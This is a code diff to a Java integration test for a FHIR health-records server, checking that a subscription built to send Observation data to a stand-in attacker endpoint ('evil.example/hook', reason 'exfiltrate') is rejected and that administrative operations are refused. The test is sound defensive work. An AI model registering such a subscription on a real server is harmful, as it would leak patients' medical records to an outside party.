@@ -232,12 +232,15 @@ abstract class CrossPatientSuite extends BaseServerIT {
 	}
 
 	@Test
-	void subscriptionsAndAdministrativeOperationsAreRefused() throws Exception {
+	void searchWideSubscriptionsAndAdministrativeOperationsAreRefused() throws Exception {
 		Subscription subscription = new Subscription().setStatus(Subscription.SubscriptionStatus.REQUESTED).setCriteria("Observation?")
 				.setReason("exfiltrate");
 		subscription.getChannel().setType(Subscription.SubscriptionChannelType.RESTHOOK).setEndpoint("https://evil.example/hook");
-		assertThat(asA("POST", "/Subscription", subscription).status()).as("not served until it delivers").isIn(403, 404);
-		assertThat(transport().send(fhirBase(), accessToken, "GET", "/Subscription", null, null).status()).as("not even to a system").isEqualTo(404);
+		assertThat(asA("POST", "/Subscription", subscription).status()).as("only topic-based subscriptions, each notification a read by its owner")
+				.isEqualTo(422);
+		FhirTransport.Answer ofTheSystem = transport().send(fhirBase(), accessToken, "GET", "/Subscription", null, null);
+		assertThat(ofTheSystem.status()).as("a system finds its own subscriptions").isEqualTo(200);
+		assertThat(ofTheSystem.body()).as("nothing of A's stored, nor anyone else's shown").doesNotContain("exfiltrate");
 		assertThat(asA("POST", "/$expunge", new org.hl7.fhir.r4.model.Parameters()).status()).isIn(400, 403, 404);
 		assertThat(asA("POST", "/$reindex", new org.hl7.fhir.r4.model.Parameters()).status()).isIn(400, 403, 404);
 	}
